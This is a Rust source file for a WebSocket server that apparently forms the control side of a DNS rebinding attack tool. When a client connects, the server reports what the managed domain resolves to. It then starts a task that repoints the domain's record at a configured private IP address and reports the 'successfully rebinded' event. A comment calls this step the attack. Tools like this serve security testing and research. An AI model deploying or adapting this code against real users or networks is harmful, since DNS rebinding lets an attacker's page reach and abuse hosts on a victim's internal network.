use axum::{
    Extension, Router,
    extract::ws::{Message, WebSocket, WebSocketUpgrade},
    response::IntoResponse,
    routing::get,
};
use futures_util::{SinkExt, StreamExt};
use serde::{Deserialize, Serialize};
use tokio::sync::mpsc;
use tracing::{debug, error, info};

use crate::SharedState;

/// Suffix appended to the completion event of the automatic rebind.
const REBIND_SUCCESS_SUFFIX: &str = " domain has successfully rebinded to private ip address";

/// Server → client session events.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(tag = "event", content = "data", rename_all = "kebab-case")]
pub enum ServerEvent {
    /// Current (or just-propagated) resolution of the managed domain.
    DnsUpdate(String),
}

/// Client → server session events.
#[derive(Debug, PartialEq, Deserialize)]
#[serde(tag = "event", rename_all = "kebab-case")]
pub enum ClientEvent {
    DnsReset,
}

pub fn create_router(state: SharedState) -> Router {
    Router::new()
        .route("/ws", get(ws_handler))
        .layer(Extension(state))
}

async fn ws_handler(
    ws: WebSocketUpgrade,
    Extension(state): Extension<SharedState>,
) -> impl IntoResponse {
    ws.on_upgrade(move |socket| handle_session(socket, state))
}

/// One connected client session.
///
/// Outbound events funnel through a channel so a rebind task finishing
/// minutes later can still notify this session. Rebinds themselves run as
/// detached tasks; their failures surface in the logs only, never as a
/// client-visible event.
async fn handle_session(socket: WebSocket, state: SharedState) {
    info!("client connected");

    let (events_tx, mut events_rx) = mpsc::unbounded_channel::<ServerEvent>();
    let (mut ws_tx, mut ws_rx) = socket.split();

    let writer = tokio::spawn(async move {
        while let Some(event) = events_rx.recv().await {
            let text = match serde_json::to_string(&event) {
                Ok(text) => text,
                Err(err) => {
                    error!("failed to encode session event: {err}");
                    continue;
                }
            };
            if ws_tx.send(Message::Text(text.into())).await.is_err() {
                break;
            }
        }
    });

    // Send the client what the domain currently resolves to. When that
    // fails the session stays connected (it can still reset), but the
    // automatic rebind is not started.
    match state.watcher.resolve(&state.config.domain).await {
        Ok(resolution) => {
            info!(?resolution, "current resolution of {}", state.config.domain);
            if let Some(first) = resolution.first() {
                let _ = events_tx.send(ServerEvent::DnsUpdate(first.to_string()));
            }
            start_rebind(&state, &events_tx);
        }
        Err(err) => error!("failed to resolve {}: {err}", state.config.domain),
    }

    while let Some(Ok(message)) = ws_rx.next().await {
        match message {
            Message::Text(text) => match serde_json::from_str::<ClientEvent>(&text) {
                Ok(ClientEvent::DnsReset) => handle_dns_reset(&state, &events_tx),
                Err(err) => debug!("ignoring unrecognized client message: {err}"),
            },
            Message::Close(_) => break,
            _ => {}
        }
    }

    info!("client disconnected");
    writer.abort();
}

/// Kick off the attack: repoint the record at the private address and let
/// the session know once public resolution follows.
fn start_rebind(state: &SharedState, events: &mpsc::UnboundedSender<ServerEvent>) {
    if !state.rebind.has_record() {
        info!(
            "can't carry out attack, no dns record was found for {}",
            state.config.domain
        );
        return;
    }
    if state.rebind.in_flight() {
        return;
    }

    let state = state.clone();
    let events = events.clone();
    tokio::spawn(async move {
        state
            .rebind
            .rebind(
                state.config.rebind_ip,
                state.config.rebind_ttl,
                REBIND_SUCCESS_SUFFIX,
                move |message| {
                    let _ = events.send(ServerEvent::DnsUpdate(message));
                },
            )
            .await;
    });
}

fn handle_dns_reset(state: &SharedState, events: &mpsc::UnboundedSender<ServerEvent>) {
    if state.rebind.in_flight() {
        return;
    }

    let state = state.clone();
    let events = events.clone();
    tokio::spawn(async move {
        state
            .rebind
            .reset(move |message| {
                let _ = events.send(ServerEvent::DnsUpdate(message));
            })
            .await;
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn server_events_use_the_session_wire_format() {
        let json = serde_json::to_string(&ServerEvent::DnsUpdate("1.2.3.4".into())).unwrap();
        assert_eq!(json, r#"{"event":"dns-update","data":"1.2.3.4"}"#);
    }

    #[test]
    fn client_reset_event_parses() {
        let event: ClientEvent = serde_json::from_str(r#"{"event":"dns-reset"}"#).unwrap();
        assert_eq!(event, ClientEvent::DnsReset);
    }

    #[test]
    fn unknown_client_events_are_rejected() {
        assert!(serde_json::from_str::<ClientEvent>(r#"{"event":"dns-nuke"}"#).is_err());
    }
}
